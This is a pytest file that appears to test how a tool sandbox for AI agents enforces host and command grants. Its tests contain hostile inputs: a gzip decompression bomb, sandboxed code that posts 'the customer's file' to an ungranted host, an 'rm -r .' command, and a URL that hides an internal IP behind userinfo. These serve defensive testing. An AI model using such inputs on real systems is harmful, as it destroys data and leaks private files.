"""Attacks on what is granted: a call does in the sandbox what its grant says, and no more."""

import gzip

import pytest
from pydantic import JsonValue
from pydantic_core import from_json

from holdfast import tools as builtin
from holdfast.contracts.calls import Grant, ToolInvocation
from holdfast.contracts.errors import ToolCrashed, ToolDenied
from holdfast.tools.egress.exchange import MAX_BODY_BYTES, request
from holdfast.tools.sandbox.calls import SandboxExecutor
from holdfast.tools.sandbox.sandbox import Sandbox
from holdfast.tools.tool import Tool
from tests.attacks import hostile
from tests.attacks.net import ELSEWHERE, PUBLIC, Net, answering, cut
from tests.builders import admitted


async def test_a_bomb_of_compression(sandbox: Sandbox, invocation: ToolInvocation) -> None:
    """What a server packed is unpacked in the sandbox only, and only up to the limit."""
    bomb = gzip.compress(b"x" * 50_000_000)
    net = Net(names={"public.example": [[PUBLIC]]})
    arguments: dict[str, JsonValue] = {"url": "http://public.example/"}
    call = invocation.model_copy(
        update={"arguments": arguments, "grant": Grant(hosts=("public.example",))}
    )
    place = SandboxExecutor(sandbox, net.egress(), None)
    async with net.serving(answering(body=bomb, content_encoding="gzip")):
        direct = await net.egress().ask(request("GET", "http://public.example/"), ("*",))
        said = from_json(await place.run(builtin.http_request, call, lambda _: None, admitted))

    assert direct.body == bomb
    assert "accept-encoding: identity" in net.asked[0]
    assert (len(said["text"]), said["truncated"]) == (MAX_BODY_BYTES, True)


async def test_more_than_was_granted(sandbox: Sandbox, invocation: ToolInvocation) -> None:
    """Code in the sandbox asks the hosts of its own grant, whatever its arguments said."""
    # RK-14 RK-16
    net = Net(names={"public.example": [[PUBLIC]], "other.example": [[ELSEWHERE]]})
    code = """
from holdfast.contracts.errors import ToolError
result = [ctx.http("GET", "http://public.example/").text]
try:
    ctx.http("POST", "http://other.example/", body="the customer's file")
except ToolError as error:
    result += [error.type, error.reason]
"""
    call = invocation.model_copy(
        update={"arguments": {"code": code}, "grant": Grant(hosts=("public.example",))}
    )
    async with net.serving(answering()), net.serving(answering(), ELSEWHERE):
        said = from_json(
            await SandboxExecutor(sandbox, net.egress(), None).run(
                hostile.run, call, lambda _: None, admitted
            )
        )

    assert said[:2] == ["hello", "permission_denied"]
    assert "the host other.example isn't on the list" in said[2]
    assert net.connected == [PUBLIC]


async def test_an_answer_that_is_lost_on_the_way(
    sandbox: Sandbox, invocation: ToolInvocation
) -> None:
    """A tool that posts learns that nobody knows what came of it, and lets it through."""
    net = Net(names={"public.example": [[PUBLIC]]})
    code = 'result = ctx.http("POST", "http://public.example/").text'
    call = invocation.model_copy(
        update={"arguments": {"code": code}, "grant": Grant(hosts=("public.example",))}
    )

    async with net.serving(cut):
        with pytest.raises(ToolCrashed, match="POST was sent to public") as raised:
            await SandboxExecutor(sandbox, net.egress(), None).run(
                hostile.run, call, lambda _: None, admitted
            )

    assert raised.value.kind == "AnswerLost"


@pytest.mark.parametrize(
    ("tool", "arguments", "grant", "reason"),
    [
        pytest.param(
            builtin.run_command,
            {"command": ["rm", "-r", "."]},
            Grant(commands=("ls", "git status")),
            "isn't on the list (listed: ls, git status)",
            id="command",
        ),
        pytest.param(
            builtin.run_command, {"command": ["ls"]}, Grant(), "(listed: none)", id="no list"
        ),
        pytest.param(
            builtin.http_request,
            {"url": "http://other.example/"},
            Grant(hosts=("public.example",)),
            "isn't on the list (listed: public.example)",
            id="host",
        ),
        pytest.param(
            builtin.http_request,
            {"url": "http://public.example@10.0.0.1/"},
            Grant(hosts=("*",)),
            "isn't on the list",
            id="unreadable host",
        ),
        pytest.param(
            builtin.run_python, {"code": "1"}, None, "nothing was granted", id="no grant"
        ),
    ],
)
async def test_calls_without_the_right_grant(
    sandbox: Sandbox,
    tool: Tool,
    arguments: dict[str, JsonValue],
    grant: Grant | None,
    reason: str,
    invocation: ToolInvocation,
) -> None:
    """The lists are checked again where the call would run, and it doesn't."""  # RK-16
    call = invocation.model_copy(update={"arguments": arguments, "grant": grant})

    with pytest.raises(ToolDenied) as raised:
        await SandboxExecutor(sandbox, Net().egress(), None).run(
            tool, call, lambda _: None, admitted
        )

    assert reason in raised.value.reason
    assert raised.value.next_valid_actions
